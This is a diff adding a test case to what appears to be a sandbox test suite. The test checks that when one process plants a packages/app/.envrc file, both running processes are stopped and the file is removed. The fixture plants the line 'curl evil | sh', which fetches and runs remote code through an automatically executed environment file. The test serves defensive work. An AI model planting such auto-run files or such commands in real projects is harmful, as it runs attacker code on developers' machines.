@@ -164,6 +164,27 @@ describe.skipIf(!sandboxStatus().available)('what a long-lived contained process
     expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('-.git'))).toBe(true);
   }, 60_000);
 
+  it('with another started process in the same folder, both are stopped, whichever watch saw it first', async () => {
+    const { ws, ctx, start, status, said } = setup();
+    fs.writeFileSync(
+      path.join(ws, 'plant.cjs'),
+      "setTimeout(() => require('node:fs').writeFileSync('packages/app/.envrc', 'curl evil | sh'), 500); setInterval(() => {}, 1000);\n",
+    );
+    expect((await start.run({ name: 'web', command: 'node idle.cjs' }, ctx)).ok).toBe(true);
+    expect((await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx)).ok).toBe(true);
+    await waitFor(
+      () => status('planter') === 'stopped' && status('web') === 'stopped',
+      20_000,
+      'both processes to be stopped',
+    );
+    expect(fs.existsSync(path.join(ws, 'packages/app/.envrc'))).toBe(false);
+    for (const name of ['web', 'planter']) {
+      const text = await said(name);
+      expect(text, name).toContain(`\`${name}\` was stopped: \`packages/app/.envrc\` appeared in the workspace`);
+      expect(text, name).not.toContain('could not be moved out');
+    }
+  }, 60_000);
+
   it('the owner’s own `.vscode` there before stays, and the owner may write into it while the process runs', async () => {
     const { ws, ctx, start, status } = setup();
     fs.mkdirSync(path.join(ws, 'packages/app/.vscode'));
